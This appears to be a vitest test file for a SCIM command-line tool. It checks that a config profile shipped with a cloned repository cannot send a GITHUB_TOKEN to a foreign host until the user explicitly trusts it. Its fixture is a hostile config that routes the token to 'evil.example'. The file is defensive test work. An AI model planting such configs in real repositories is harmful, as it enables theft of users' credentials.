/** A profile that came with a repository, through the commands: until somebody agrees nothing leaves this machine. */

import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, onTestFinished, test } from "vitest";
import { startTcp, type LoopbackServer } from "../support/loopback-server.ts";
import { runCommand } from "../support/run-command.ts";
import { tempFolder } from "../support/temp-folder.ts";
import { terminal } from "../support/terminal.ts";

const evil =
  'profiles: { prod: { url: "https://evil.example/scim/v2/x", tokenEnv: GITHUB_TOKEN, from: own.yaml } }\n';
const own = "idp: okta\norganization: cknaqyipv05731evsry6cj4n0\nusers: []\n";

/** Whatever leaves this machine would go through the proxy. */
async function cloned(): Promise<{
  readonly cwd: string;
  readonly env: Readonly<Record<string, string>>;
  readonly proxy: LoopbackServer;
}> {
  const cwd = await tempFolder({
    "astro-scim.yaml": evil,
    "own.yaml": own,
    "r.har": '{"log":{"entries":[]}}',
  });
  const proxy = await startTcp((socket) => {
    socket.once("data", () => socket.end("HTTP/1.1 403 Forbidden\r\ncontent-length: 0\r\n\r\n"));
  });
  onTestFinished(proxy.close);
  const env = { HOME: join(cwd, "home"), GITHUB_TOKEN: "a-secret-of-mine", HTTPS_PROXY: proxy.url };
  return { cwd, env, proxy };
}

describe("where nobody can be asked", () => {
  test.each<readonly [command: string, argv: readonly string[]]>([
    ["diff", ["diff"]],
    ["push-group", ["push-group", "--all", "--yes"]],
    ["resync", ["resync", "--all", "--yes"]],
    ["delete", ["delete", "--all", "--dry-run"]],
    ["simulate", ["simulate", "okta", "--allow-remote", "--yes"]],
    ["replay", ["replay", "r.har", "--allow-remote", "--yes"]],
  ])("%s is refused: exit status 5, nothing is sent, --yes is no agreement", async (_command, argv) => {
    const { cwd, env, proxy } = await cloned();
    const { status, stderr } = await runCommand([...argv, "--profile", "prod"], { cwd, env });
    expect(stderr).toMatch(
      /^Error: With profile "prod" of \.\/astro-scim\.yaml the token from GITHUB_TOKEN goes to evil\.example\. .*\n.*--trust-config/m,
    );
    expect(stderr).not.toContain("a-secret-of-mine");
    expect(status).toBe(5);
    expect(proxy.connections()).toBe(0);
  });

  test("--trust-config lets it go, once and for all: the way of the token is said each time", async () => {
    const { cwd, env, proxy } = await cloned();
    const argv = ["diff", "--profile", "prod"];
    const used =
      'Using profile "prod" of ./astro-scim.yaml: the token from GITHUB_TOKEN goes to evil.example.\n';
    const first = await runCommand([...argv, "--trust-config"], { cwd, env });
    const second = await runCommand(argv, { cwd, env });
    expect([first.stderr, second.stderr]).toEqual([
      expect.stringContaining(used),
      expect.stringContaining(used),
    ]);
    expect([first.status, second.status]).toEqual([3, 3]);
    expect(proxy.connections()).toBeGreaterThan(0);
  });
});

describe("at a terminal", () => {
  test.each<readonly [answer: string, keys: string, status: number]>([
    ["no", "n\r", 1],
    ["Enter alone", "\r", 1],
    ["Ctrl-C", "\u0003", 130],
    ["Ctrl-D", "\u0004", 130],
  ])("%s: nothing is sent, and nothing is remembered", async (_answer, keys, status) => {
    const { cwd, env, proxy } = await cloned();
    const io = terminal({ question: "Trust it?", keys }, { cwd, env });
    expect((await runCommand(["diff", "--profile", "prod"], { io })).status).toBe(status);
    expect(proxy.connections()).toBe(0);
    await expect(readFile(join(cwd, "home/.local/state/astro-scim/trusted.json"))).rejects.toThrow("ENOENT");
  });

  test("yes: the command goes on", async () => {
    const { cwd, env, proxy } = await cloned();
    const io = terminal({ question: "Trust it?", keys: "y\r" }, { cwd, env });
    expect((await runCommand(["diff", "--profile", "prod"], { io })).status).toBe(3);
    expect(proxy.connections()).toBeGreaterThan(0);
  });
});
